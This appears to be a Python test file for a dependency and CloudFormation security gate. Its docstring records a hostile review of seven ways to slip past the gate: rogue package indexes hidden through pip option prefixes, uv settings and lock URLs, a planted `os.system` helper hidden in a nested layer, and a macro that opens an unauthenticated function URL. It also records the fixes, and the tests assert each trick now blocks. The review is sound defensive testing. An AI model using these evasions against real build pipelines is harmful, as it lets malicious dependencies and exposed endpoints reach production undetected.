"""A thirty-ninth hostile review of `gate check`, on the code written for review 37's 11 and
review 38: GATE-DEP-002, the finding for an index other than PyPI
(gate.bundle.manifests.indexes, requirements `_sources`, `source_option`,
`_classify_line`, lockfiles, gate.bundle.discovery.serverless `_local_sources`), the
layers each function is tied to (gate.bundle.discovery.cloudformation `_untied_layers`,
`_tied`), and the `Fn::ForEach` refusal (`unexpanded_loop`, read.py `_refuse_loops`).

Each attack is a confirmed problem: the tricked bundle exits 0 with the hostile harness's
policy (checkov off), and a baseline shows the same bundle without the trick blocks:
GATE-DEP-002 for the index the trick hides, bandit's B605 for the layer's helper.py, or
GATE-IAC-010 for the function URL the macro opens. What the tools do was run where it could
be offline: pip 26.3 (`pip install --dry-run`, which prints the indexes it looks in) for 1
and 2a; uv 0.13.8 (PyPI) for 3, each run failing to fetch from the index or URL the trick
names; serverless-python-requirements' lib/pip.js (its current source) for 2; the
CloudFormation macro order (snippet `Fn::Transform` before the template's `Transform`)
from AWS's documentation for 6. What lets each through:

1. Requirements-file options pip's optparse reads that the gate does not.
   `_classify_line` returns silently on any line that `_OPTION_WITH_VALUE` matches at its
   start (`--pre`, `--prefer-binary`, `--trusted-host`, ...), after `_sources` has looked
   for the exact spellings `-i`, `--index-url`, `--extra-index-url`, `-f`, `--find-links`
   (`source_option`); `_INCLUDE` knows `-r`/`--requirement`/`-c`/`--constraint` followed by
   a space or `=`, at the line's start only. pip parses an option line with optparse, which
   takes a long option by any unique prefix and a short option's value from the rest of
   its word. (a) `--prefer-binary --extra-index https://pypi.example.net/simple`: an extra
   index, no finding. (b) `--pre --requirem deps.txt`, (c) `--pre -rdeps.txt`, (d) `--pre
   --constr deps.txt`: a file pip reads (relative to the including file) and the gate
   never opens, since `REQUIREMENTS_GLOB` does not match deps.txt: whatever it says
   (here `--extra-index-url`; equally a wheel of the bundle or a vulnerable pin) is unread.
   pip printed `Looking in indexes: ..., <the index>` for each.
2. serverless-python-requirements' `pipCmdExtraArgs` (`_local_sources`, through
   `sources`). (a) `['--extra-index', URL]`: pip's command line takes prefixes too.
   (b) `['--pre --extra-index-url', URL]`: the plugin splits each item at its first run of
   spaces (`cmd.split(/\\s+/, 2)`), so pip gets `--pre`, `--extra-index-url`, URL; the gate
   takes the item for one word, which is no option. (c) `['--requirement=deps.txt']`: a
   requirements file pip reads from the service's folder (the plugin spawns pip in the
   Framework's working directory), which the gate neither reads nor refuses.
3. uv's settings outside `pyproject_indexes`. (a) `uv.toml` beside pyproject.toml
   (`[[index]] url = ..., default = true`), which uv reads before `[tool.uv]`: not read at
   all. (b) `[tool.uv.pip] extra-index-url` in pyproject.toml, the settings of `uv pip`
   (what aws-lambda-builders' python_uv workflow and `installer: uv` run): not read. (c) A
   uv.lock whose package says `source = { registry = "https://pypi.org/simple" }` but whose
   `wheels` (or `sdist`) `url` is another server's: `_read_uv_lock` judges `registry`
   only; `uv sync --frozen` downloads the lock's URL as written (uv tried to fetch it).
4. A requirement installed from a server by URL (`six @ https://host/six-...whl`, `six @
   git+https://...`): `classify_requirement` makes it GATE-DEP-001 "URL requirement",
   medium, below the threshold, while the same server named as an index is GATE-DEP-002,
   high. A direct URL is the stronger case of the same risk (no name or version checked at
   all); the message even says it "was not audited or installed". The same for Poetry's
   and Pipfile's `url`/`git` entries and a poetry.lock `type = "url"` source (read, not
   run). Borderline: GATE-DEP-001's medium is a choice, but GATE-DEP-002 makes it
   inconsistent.
5. A nested application's layer parameter with an ARN for its default. `_tied` takes
   `Ref: DepsLayer` for a published layer when the parameter's `Default` starts with
   `arn:`, as a child template written to deploy on its own has; the parent passes its own
   `Deps` (ContentUri `layer/`) in its place. The layer folder's `python/` holds a
   `pyvenv.cfg`, so the built-in rule ignores it, and only a layer tied to the function
   has its ignored folders brought back for the handler's imports (the function's code a
   zip, fn.zip; with a folder of code the import is followed anyway): helper.py is never
   read. (Review 38's 2c, with a default.)
6. A CloudFormation macro, by `Fn::Transform` in a function's properties (or a template's
   `Transform` naming one): `FunctionUrlConfig: {Fn::Transform: {Name: Acme::OpenUrl}}`,
   the macro defined by another template of the bundle (an `AWS::CloudFormation::Macro`
   whose Python returns `{"AuthType": "NONE"}`: nothing for bandit). `unexpanded_loop`
   refuses `Fn::ForEach` only, and `with_includes` expands `AWS::Include` only; the rules
   read `FunctionUrlConfig` as written, with no `AuthType`, where CloudFormation runs the
   macro before SAM's transform. The same holds for a template-level macro
   (`Transform: [AWS::Serverless-2016-10-31, Acme::Functions]`, exit 0 seen): it may
   rewrite any resource.
7. Credentials printed. (a) `mask_url_credentials` (gate.redact) masks
   `[^/@\\s]+@` after the scheme, up to the FIRST `@`; a user name holding an `@`
   (Artifactory's e-mail log-ins: `https://alice@corp.example.com:TOKEN@host/...`, which
   pip and urllib3 split at the last `@`) keeps `corp.example.com:TOKEN@` in GATE-DEP-002's
   message and anchor (console and JSON). (b) A token in the URL's path, the form
   Gemfury (`https://pypi.fury.io/TOKEN/acme/`) and Cloudsmith entitlements
   (`https://dl.cloudsmith.io/TOKEN/org/repo/python/simple/`) document, is printed whole.

Suggested fixes, by class. 1: parse an option line as pip does: `shlex.split`, then
optparse with pip's own requirements-file options (`pip._internal.req.req_file`'s list,
copied, not imported), so prefixes, attached short values and every word are read; any
word that is no known option refuses the line; includes and constraints are whatever
`opts.requirements`/`opts.constraints` holds, read like `-r`. Never return silently on a
line because its first word is known. 2: the same parser for `pipCmdExtraArgs`, after
splitting each item as the plugin does (`split(/\\s+/, 2)`, the rest dropped); a
`-r`/`-c` there is read as a requirements file of the service, or refused. 3: read
`uv.toml` (`index`, `index-url`, `extra-index-url`, `find-links`, `[pip]`) from the
project's folder and above, and `[tool.uv.pip]`; in uv.lock, judge every `url` of
`sdist`/`wheels` (and pdm.lock's `files[].url` with `static_urls`) by host against its
`registry`: a file not on the registry's host (or files.pythonhosted.org for PyPI) is
GATE-DEP-002. 4: a requirement from a remote URL or VCS (any manifest) is GATE-DEP-002
too (or GATE-DEP-001 at high). 5: a parameter is published only when nothing passes it
a value: a parent's `Parameters` for an `AWS::Serverless::Application`/
`AWS::CloudFormation::Stack` whose child is the template (or samconfig overrides) make
it the parent's value, tied as the parent's `Ref` is; likewise an `Fn::Sub` whose text
starts with `arn:` but names a resource. 6: refuse any `Fn::Transform` other than a
local `AWS::Include`, and any template `Transform` other than `AWS::Serverless-*`,
`AWS::LanguageExtensions` (with the loop refusal) and `AWS::Include`: the deploy reads
what the macro returns. 7: mask the userinfo up to the LAST `@` before the host (parse
with `urlsplit`, rebuild with `***@`), and mask a path segment that looks like a token
(the `_CANDIDATE` test of gate.redact) in an index URL.

Also tried, and the gate held: `-ihttps://...`, `--index-url=...` and `-f` with an attached
value (read: GATE-DEP-002); `pipCmdExtraArgs: ['--extra-index-url https://...']`, one
item (read through `\\s+` in `_SOURCE`: refused); `is_pypi` with a port, user info, a
query, `http:`, a trailing dot, a backslash before `@` (`https://evil\\@pypi.org/`: a user
name, so not PyPI); Pipfile.lock `_meta.sources` and poetry.lock `legacy` (GATE-DEP-002);
the layer of 5 as a zip (every declared layer zip is unpacked: B605); a SAM layer whose
`ContentUri` is `layer.bin` holding a zip (refused as a zip deployed unscanned); a
Serverless function whose `layers` item is `${self:custom.depsLayer}`, the custom value
`{Ref: DepsLambdaLayer}` (B605: followed).

False refusals seen: none new on realistic files. (serverless-python-requirements'
current `installer: uv` is refused as a setting not known to change nothing: for uv
users, a refusal, not a false one per se.)

Not covered: `pdm.toml` (`[pypi] url`, PDM's project config) and pdm.lock `files[].url`
with `static_urls` (read in PDM's docs, not run: the class of 3); pip configuration a
`.env` or `PIP_CONFIG_FILE` would point at (reviews 35-37 covered `.env`); an S3
`AWS::Include` at `Resources` (exit 0 with no function seen; what it adds is not in the
bundle, so no baseline can show the bundle's code hidden); `Fn::ForEach` spelled with
another YAML form (`!ForEach`, not a CloudFormation tag) was not tried; Terraform and
Serverless `_untied_layers` beyond the custom-variable case; diff mode and waivers.

Fixed, each by its class. 1, a requirements file's line is read by optparse with pip's
own list of options, as pip reads it: prefixes, a short option's attached value, every
word; a line pip could not read is a problem (gate.bundle.manifests.pipoptions
`read_line`). 2, `pipCmdExtraArgs` is split at spaces as the plugin splits it, and each
word must be an option known, by its exact spelling, to change nothing installed, or an
index of PyPI's (`install_arguments`). 3, `uv.toml`, `[tool.uv.pip]` and `pdm.toml` are
read for indexes, and a uv or pdm lock's file downloaded from elsewhere than its
registry (PyPI's files for PyPI) is GATE-DEP-002 (gate.bundle.manifests.indexes
`files_elsewhere`). 4, a requirement downloaded from a server or repository other than
PyPI (a direct URL, git, in any manifest) is GATE-DEP-002 (`from_elsewhere`). 5, every
layer the IaC declares is a place whose ignored folders are brought back, tied to a
function or not (gate.bundle.staging.imports `bring_back_code`). 6, a `Fn::Transform`
other than an `AWS::Include` the gate reads (a local file, or an API's definition from
S3), and a template `Transform` other than AWS's own, are refused
(gate.bundle.discovery.cloudformation `unexpanded`). 7, an index's URL is shown by its
origin alone, the rest as a digest in the finding's anchor, and user info is masked up
to its last `@` (gate.redact `url_origin`, `mask_url_credentials`). The plugin's
`installer` setting is allowed: uv's settings files are read.
"""

from __future__ import annotations

import io
import json
import zipfile
from collections.abc import Callable
from pathlib import Path

from tests.hostile.conftest import Sandbox, each_blocked_or_refused, each_blocks, each_blocks_with

Layout = Callable[[Sandbox], None]

INDEX = "https://pypi.example.net/simple"
PLANTED_HELPER = "import os\n\n\ndef run():\n    os.system(os.environ.get('X', ''))\n"
IMPORTS_HELPER = "import helper\n\n\ndef handler(event, context):\n    return helper.run()\n"
HARMLESS = "def handler(event, context):\n    return {'ok': True}\n"
SAM = "AWSTemplateFormatVersion: '2010-09-09'\nTransform: AWS::Serverless-2016-10-31\n"
FUNCTION = (
    "  OrdersFunction:\n    Type: AWS::Serverless::Function\n    Properties:\n"
    "      CodeUri: src/\n      Handler: app.handler\n      Runtime: python3.12\n"
    "      Tracing: Active\n"
)


def sam_files(files: dict[str, str], properties: str = "") -> Layout:
    """A SAM function in src/ with `files` beside its template."""

    def layout(sandbox: Sandbox) -> None:
        sandbox.write("template.yaml", SAM + "Resources:\n" + FUNCTION + properties)
        sandbox.write("src/app.py", HARMLESS)
        for relative, text in files.items():
            sandbox.write(relative, text)

    return layout


# --- 1. requirements-file options pip reads by prefix or attached -------------------------------

HIDDEN = {"src/deps.txt": f"--extra-index-url {INDEX}\n"}


def requirements(text: str, more: dict[str, str] | None = None) -> Layout:
    return sam_files({"src/requirements.txt": text + "six==1.16.0\n", **(more or {})})


# --- 2. pipCmdExtraArgs ------------------------------------------------------------------------

SERVICE = """\
service: orders
frameworkVersion: '3'
plugins:
  - serverless-python-requirements
custom:
  pythonRequirements:
    dockerizePip: false
{extra}provider:
  name: aws
  runtime: python3.12
  tracing: {{lambda: true}}
functions:
  api:
    handler: app.handler
"""


def service(extra: str = "", named: str = "") -> Layout:
    """A Serverless service in svc/ whose plugin installs six; `named` names the index in
    its requirements file (the baseline)."""

    def layout(sandbox: Sandbox) -> None:
        sandbox.write("svc/serverless.yml", SERVICE.format(extra=extra))
        sandbox.write("svc/app.py", "import six  # noqa: F401\n\n\n" + HARMLESS)
        sandbox.write("svc/requirements.txt", named + "six==1.16.0\n")
        sandbox.write("svc/deps.txt", f"--extra-index-url {INDEX}\n")

    return layout


def pip_args(arguments: str) -> Layout:
    return service(f"    pipCmdExtraArgs: {arguments}\n")


# --- 3. uv -------------------------------------------------------------------------------------

PROJECT = (
    '[project]\nname = "orders"\nversion = "1.0.0"\nrequires-python = ">=3.12"\n'
    'dependencies = ["six==1.16.0"]\n\n[tool.uv]\npackage = false\n'
)
UV_LOCK = """\
version = 1
requires-python = ">=3.12"

[[package]]
name = "orders"
version = "1.0.0"
source = {{ virtual = "." }}
dependencies = [
    {{ name = "six" }},
]

[package.metadata]
requires-dist = [{{ name = "six", specifier = "==1.16.0" }}]

[[package]]
name = "six"
version = "1.16.0"
source = {{ registry = "{registry}" }}
wheels = [
    {{ url = "https://pypi.example.net/packages/six-1.16.0-py2.py3-none-any.whl", \
hash = "sha256:8abb2f1d86890a2dfb989f9a77cfcfd3e47c2a354b01111771326f8aa26e0254", size = 11053 }},
]
"""


def uv_project(settings: str = "", more: dict[str, str] | None = None) -> Layout:
    return sam_files({"src/pyproject.toml": PROJECT + settings, **(more or {})})


# --- 5. a nested application's layer parameter with a default ARN -----------------------------

LAYER = (
    "  Deps:\n    Type: AWS::Serverless::LayerVersion\n    Properties:\n"
    "      ContentUri: layer/\n      CompatibleRuntimes: [python3.12]\n"
)
# The function's code is a zip: from a folder, the handler's import is followed into the
# ignored layer folder whether or not the layer is tied (seen: B605 either way).
LAYERED = FUNCTION.replace("src/", "fn.zip") + "      Layers: [!Ref {layer}]\n"


def zipped(files: dict[str, str]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, text in files.items():
            archive.writestr(name, text)
    return buffer.getvalue()


def layer_folder(sandbox: Sandbox) -> None:
    """A layer folder whose python/ is a virtualenv to the built-in rule."""
    sandbox.write("fn.zip", zipped({"app.py": IMPORTS_HELPER}))
    sandbox.write("layer/python/pyvenv.cfg", "home = /usr/bin\n")
    sandbox.write("layer/python/helper.py", PLANTED_HELPER)


def sam_layer(sandbox: Sandbox) -> None:
    """The baseline of 5: the layer and the function in one template."""
    layer_folder(sandbox)
    sandbox.write("template.yaml", SAM + "Resources:\n" + LAYER + LAYERED.format(layer="Deps"))


def nested_layer_with_default(sandbox: Sandbox) -> None:
    """5: the parent's layer passed to a child whose parameter defaults to an ARN."""
    layer_folder(sandbox)
    sandbox.write(
        "template.yaml",
        SAM
        + "Resources:\n"
        + LAYER
        + "  Orders:\n    Type: AWS::Serverless::Application\n    Properties:\n"
        "      Location: orders.yaml\n      Parameters:\n        DepsLayer: !Ref Deps\n",
    )
    sandbox.write(
        "orders.yaml",
        SAM
        + "Parameters:\n  DepsLayer:\n    Type: String\n"
        + "    Default: arn:aws:lambda:us-east-1:123456789012:layer:deps:1\n"
        + "Resources:\n"
        + LAYERED.format(layer="DepsLayer"),
    )


# --- 6. a macro -------------------------------------------------------------------------------

MACRO_TEMPLATE = SAM + (
    "Resources:\n  MacroFunction:\n    Type: AWS::Serverless::Function\n    Properties:\n"
    "      CodeUri: macro/\n      Handler: macro.handler\n      Runtime: python3.12\n"
    "      Tracing: Active\n  Macro:\n    Type: AWS::CloudFormation::Macro\n"
    "    Properties:\n      Name: Acme::OpenUrl\n      FunctionName: !GetAtt MacroFunction.Arn\n"
)
MACRO = (
    "def handler(event, context):\n    fragment = {'AuthType': 'NONE'}\n"
    "    return {'requestId': event['requestId'], 'status': 'success', 'fragment': fragment}\n"
)
OPEN_URL = "      FunctionUrlConfig:\n        AuthType: NONE\n"
MACRO_URL = "      FunctionUrlConfig:\n        Fn::Transform:\n          Name: Acme::OpenUrl\n"


def with_macro(properties: str) -> Layout:
    return sam_files({"macro.yaml": MACRO_TEMPLATE, "macro/macro.py": MACRO}, properties)


NAMED = requirements(f"--extra-index-url {INDEX}\n")
INCLUDED = requirements("-r deps.txt\n", HIDDEN)
IN_REQUIREMENTS = service(named=f"--extra-index-url {INDEX}\n")
UV_INDEX = uv_project(f'extra-index-url = ["{INDEX}"]\n')
# name: (the bundle without the trick, its rule; the bundle with it; what lets it through)
TRICKS: dict[str, tuple[Layout, str, Layout, str]] = {
    "1a-extra-index-prefix": (
        NAMED, "GATE-DEP-002", requirements(f"--prefer-binary --extra-index {INDEX}\n"),
        "_OPTION_WITH_VALUE skips the line; source_option knows exact spellings only"),
    "1b-requirement-prefix": (
        INCLUDED, "GATE-DEP-002", requirements("--pre --requirem deps.txt\n", HIDDEN),
        "_INCLUDE knows -r/--requirement at the line's start: deps.txt never read"),
    "1c-short-include-attached": (
        INCLUDED, "GATE-DEP-002", requirements("--pre -rdeps.txt\n", HIDDEN),
        "_INCLUDE wants a space or = after -r: deps.txt never read"),
    "1d-constraint-prefix": (
        INCLUDED, "GATE-DEP-002", requirements("--pre --constr deps.txt\n", HIDDEN),
        "_INCLUDE knows -c/--constraint only: deps.txt never read"),
    "2a-pip-args-prefix": (
        IN_REQUIREMENTS, "GATE-DEP-002", pip_args(f"['--extra-index', '{INDEX}']"),
        "_local_sources reads exact option names only"),
    "2b-pip-args-split-item": (
        IN_REQUIREMENTS, "GATE-DEP-002", pip_args(f"['--pre --extra-index-url', '{INDEX}']"),
        "the plugin splits an item at its first spaces; _local_sources reads it whole"),
    "2c-pip-args-requirements-file": (
        IN_REQUIREMENTS, "GATE-DEP-002", pip_args("['--requirement=deps.txt']"),
        "a requirements file in pipCmdExtraArgs is neither read nor refused"),
    "3a-uv-toml": (
        UV_INDEX, "GATE-DEP-002",
        uv_project(more={"src/uv.toml": f'[[index]]\nurl = "{INDEX}"\ndefault = true\n'}),
        "uv.toml is not read"),
    "3b-tool-uv-pip": (
        UV_INDEX, "GATE-DEP-002", uv_project(f'\n[tool.uv.pip]\nextra-index-url = ["{INDEX}"]\n'),
        "pyproject_indexes does not read [tool.uv.pip]"),
    "3c-uv-lock-wheel-url": (
        uv_project(more={"src/uv.lock": UV_LOCK.format(registry=INDEX)}), "GATE-DEP-002",
        uv_project(more={"src/uv.lock": UV_LOCK.format(registry="https://pypi.org/simple")}),
        "_read_uv_lock judges registry, not the wheel URL uv downloads"),
    "4-direct-url-requirement": (
        requirements(f"--index-url {INDEX}\n"), "GATE-DEP-002",
        sam_files({"src/requirements.txt":
                   "six @ https://pypi.example.net/packages/six-1.16.0-py2.py3-none-any.whl\n"}),
        "a URL requirement is GATE-DEP-001, medium: below the threshold"),
    "5-nested-layer-parameter-default": (
        sam_layer, "B605", nested_layer_with_default,
        "_tied takes a parameter with an ARN default for published; the parent passes its own"),
    "6-snippet-macro": (
        with_macro(OPEN_URL), "GATE-IAC-010", with_macro(MACRO_URL),
        "only Fn::ForEach and AWS::Include are known: a macro's output is not read"),
}  # fmt: skip


def test_the_code_each_trick_hides_blocks(tmp_path: Path) -> None:
    """The baselines, in one run of every bundle: the same bundle without the trick."""
    each_blocks(tmp_path, {name: (case[0], case[1]) for name, case in TRICKS.items()})


def test_what_the_deploy_installs_or_makes_is_judged(tmp_path: Path) -> None:
    """The deploy installs from the other index, deploys the layer or runs the macro; no
    run may pass."""
    each_blocked_or_refused(tmp_path, {name: case[2] for name, case in TRICKS.items()})


# --- 7. credentials of an index URL -------------------------------------------------------------

SECRETS = {
    "7a-at-in-user-name": (
        "https://alice@corp.example.com:AKCp8jQ7dEadBeefSecretTokenX1"
        "@corp.jfrog.example/artifactory/api/pypi/pypi/simple",
        "AKCp8jQ7dEadBeefSecretTokenX1",
    ),
    "7b-token-in-path": ("https://pypi.fury.io/1a2B3c4D5e6F7g8H9i0J/acme/", "1a2B3c4D5e6F7g8H9i0J"),
}


def test_an_index_credential_is_never_printed(tmp_path: Path) -> None:
    """GATE-DEP-002 names the index, never the credential in its URL: each case's
    bundle, in one run, blocks with a GATE-DEP-002 of its own, and no credential is
    anywhere in what the run printed."""
    run = each_blocks_with(
        tmp_path,
        {
            case: sam_files({"src/requirements.txt": f"--extra-index-url {url}\nsix==1.16.0\n"})
            for case, (url, _) in sorted(SECRETS.items())
        },
        lambda _, own: "GATE-DEP-002" in json.dumps(own),
    )
    for case, (_, secret) in SECRETS.items():
        assert secret not in run.stdout + run.stderr, case
